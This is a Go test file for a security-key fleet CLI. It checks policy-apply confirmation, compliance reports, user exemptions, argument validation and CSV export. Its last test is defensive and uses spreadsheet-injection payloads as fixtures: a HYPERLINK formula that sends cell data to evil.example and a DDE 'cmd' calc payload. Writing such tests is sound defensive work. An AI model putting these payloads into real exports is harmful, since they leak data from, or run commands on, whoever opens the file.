package cli_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/keyfleet/keyfleet/api"
	"github.com/keyfleet/keyfleet/api/client/clienttest"
	"github.com/keyfleet/keyfleet/internal/cli"
)

var dryRun = api.PolicyDryRun{BaseVersion: 2, Weakens: true, Users: 40, Changed: 1,
	Changes:      []api.PolicyChange{{Rule: "eng", Field: "require.min_factors", Effect: "weaker", Message: "rule eng: min_factors 2 -> 1"}},
	Transitions:  map[string]int{"grace->compliant": 1},
	ChangedUsers: []api.PolicyUserChange{{Username: "ann", From: "grace", To: "compliant", Reasons: []string{"ann meets every requirement"}}}}

func policyFile(t *testing.T) string {
	p := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(p, []byte("version: 1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestPolicyApplyShowsTheDryRunAndAsksFirst(t *testing.T) {
	weakening := api.Accepted{Approval: api.Approval{ID: "apr_9", Action: api.ActionPolicyApply, TargetType: "policy",
		TargetID: "policy", TargetName: "version 3", State: api.ApprovalPending, ExpiresAt: t0}}
	applied := api.PolicyApplied{Version: api.PolicyVersion{Version: 3, SHA256: "ab"}, Reevaluation: api.Reevaluation{Users: 40, Grace: 2}}
	tests := []struct {
		name, stdin string
		args        []string
		answer      any
		status      int
		code        int
		want        []string
		applied     bool
	}{
		{"answering no applies nothing", "n\n", nil, applied, 201, cli.ExitError, []string{"WEAKENS", "ann", "grace->compliant: 1"}, false},
		{"answering yes applies", "y\n", nil, applied, 201, cli.ExitOK, []string{"Policy version 3 applied", "Re-evaluated 40 users"}, true},
		{"--yes does not ask", "", []string{"--yes"}, applied, 201, cli.ExitOK, []string{"Policy version 3 applied"}, true},
		{"a weakening change prints the approval", "", []string{"--yes"}, weakening, 202, cli.ExitOK, []string{"keyfleet approvals approve apr_9"}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			e.srv.Handle("POST /v1/policy/dry-run", clienttest.JSON(200, dryRun))
			e.srv.Handle("POST /v1/policy", clienttest.JSON(tt.status, tt.answer))
			r := e.runIn(tt.stdin, append([]string{"policy", "apply", policyFile(t), "--comment", "why"}, tt.args...)...)
			if r.code != tt.code {
				t.Fatalf("exit %d: %s %s", r.code, r.stdout, r.stderr)
			}
			for _, w := range tt.want {
				if !strings.Contains(r.stdout+r.stderr, w) {
					t.Errorf("output lacks %q:\n%s\n%s", w, r.stdout, r.stderr)
				}
			}
			if got := e.srv.Last().Path == "/v1/policy"; got != tt.applied {
				t.Fatalf("applied = %v, want %v", got, tt.applied)
			}
			if tt.applied && !strings.Contains(string(e.srv.Last().Body), `"comment":"why"`) {
				t.Errorf("apply body %s", e.srv.Last().Body)
			}
		})
	}
}

func TestPolicyAndReportCommandsPrintWhatTheDaemonAnswers(t *testing.T) {
	report := api.ComplianceReport{PolicyVersion: 2, NearDays: 14, Overall: api.ComplianceCounts{Users: 4, Adoption: 0.5, Compliant: 2, NonCompliant: 2},
		ByGroup:      map[string]api.ComplianceCounts{"eng": {Users: 2, Adoption: 1, Compliant: 2}},
		NonCompliant: []api.ReportUser{{Username: "bob", Status: "non_compliant", Reasons: []string{"bob has 0 active factors"}}}}
	tests := []struct {
		name, route string
		answer      any
		args        []string
		want        []string
		body        string
	}{
		{"report compliance prints counts and users", "GET /v1/reports/compliance", report,
			[]string{"report", "compliance", "--group", "eng"}, []string{"group eng", "50.0%", "bob", "Non-compliant users: 1"}, ""},
		{"report compliance lists push companions whose pushes go unanswered", "GET /v1/reports/compliance",
			api.ComplianceReport{IgnoredPushes: []api.IgnoredPushes{{Username: "ivan", FactorID: "fac_9", Label: "Pixel", Unanswered: 4}}},
			[]string{"report", "compliance"}, []string{"pushes in a row unanswered: 1", "ivan", "fac_9", "Pixel", "4"}, ""},
		{"policy history lists versions", "GET /v1/policy/versions",
			api.Page[api.PolicyVersion]{Items: []api.PolicyVersion{{Version: 1, Rules: 3, AppliedBy: api.Actor{Name: "root"}}}},
			[]string{"policy", "history"}, []string{"VERSION", "root"}, ""},
		{"policy diff prints the changes", "GET /v1/policy/diff", api.PolicyDiff{From: 1, To: 2, Changes: dryRun.Changes},
			[]string{"policy", "diff"}, []string{"Version 1 -> 2", "require.min_factors"}, ""},
		{"policy show prints the document", "GET /v1/policy", api.CurrentPolicy{Version: 2, Current: &api.PolicyVersion{Version: 2, Document: "version: 1\nrules: []\n"}},
			[]string{"policy", "show"}, []string{"rules: []"}, ""},
		{"users exempt sends the end and the reason", "POST /v1/users/{user}/exemptions",
			api.Accepted{Approval: api.Approval{ID: "apr_3", Action: api.ActionUserExempt, TargetType: "user", TargetName: "alice", ExpiresAt: t0}},
			[]string{"users", "exempt", "alice", "--until", "2030-07-01", "--reason", "leave"}, []string{"keyfleet approvals approve apr_3"},
			`"until":"` + time.Date(2030, 7, 1, 0, 0, 0, 0, time.UTC).Format(time.RFC3339) + `","reason":"leave"`},
	}
	in90 := time.Now().UTC().AddDate(0, 0, 90).Format("2006-01-02")
	tests = append(tests, struct {
		name, route string
		answer      any
		args, want  []string
		body        string
	}{"users exempt takes days from now", "POST /v1/users/{user}/exemptions",
		api.Accepted{Approval: api.Approval{ID: "apr_4", Action: api.ActionUserExempt, TargetType: "user", TargetName: "alice", ExpiresAt: t0}},
		[]string{"users", "exempt", "alice", "--until", "90d", "--reason", "leave"}, []string{"apr_4"}, `"until":"` + in90})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			status := 200
			if strings.HasPrefix(tt.route, "POST") {
				status = 202
			}
			e.srv.Handle(tt.route, clienttest.JSON(status, tt.answer))
			r := e.run(tt.args...)
			if r.code != 0 {
				t.Fatalf("exit %d: %s", r.code, r.stderr)
			}
			for _, w := range tt.want {
				if !strings.Contains(r.stdout, w) {
					t.Errorf("stdout lacks %q:\n%s", w, r.stdout)
				}
			}
			if !strings.Contains(string(e.srv.Last().Body), tt.body) {
				t.Errorf("body %s lacks %s", e.srv.Last().Body, tt.body)
			}
		})
	}
}

func TestPolicyCommandsRefuseBadArguments(t *testing.T) {
	e := newEnv(t)
	for _, args := range [][]string{
		{"users", "exempt", "alice", "--reason", "x"},
		{"users", "exempt", "alice", "--until", "next week", "--reason", "x"},
		{"users", "exempt", "alice", "--until", "2030-01-01"},
		{"users", "exempt", "alice", "--until", "0d", "--reason", "x"},
		{"users", "exempt", "alice", "--until", "-5d", "--reason", "x"},
		{"policy", "rollback", "zero"},
	} {
		if r := e.run(args...); r.code != cli.ExitUsage {
			t.Errorf("%v: exit %d, want usage: %s", args, r.code, r.stderr)
		}
	}
	if r := e.run("policy", "apply", "/nonexistent.yaml", "--yes"); r.code != cli.ExitError || !strings.Contains(r.stderr, "policy YAML") {
		t.Errorf("a missing file: %d %s", r.code, r.stderr)
	}
}

func TestCSVReportsNeverCarryAFormula(t *testing.T) {
	e := newEnv(t)
	evil := `=HYPERLINK("https://evil.example/?d="&A1,"open")`
	e.srv.Handle("GET /v1/reports/factors", clienttest.JSON(200, api.Page[api.ReportFactor]{Items: []api.ReportFactor{
		{Username: "alice", FactorID: "fac_1", Kind: "piv", Model: evil, Firmware: "+1+cmd|' /C calc'!A0", Why: "@SUM(1)"}}}))
	r := e.run("report", "vulnerable", "-o", "csv")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("not a CSV of one row: %v\n%s", err, r.stdout)
	}
	for _, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
			t.Fatalf("a cell a spreadsheet would run: %q in %q", cell, recs[1])
		}
	}
	if recs[1][3] != "'"+evil {
		t.Fatalf("the model cell reads %q, want it as text", recs[1][3])
	}
}
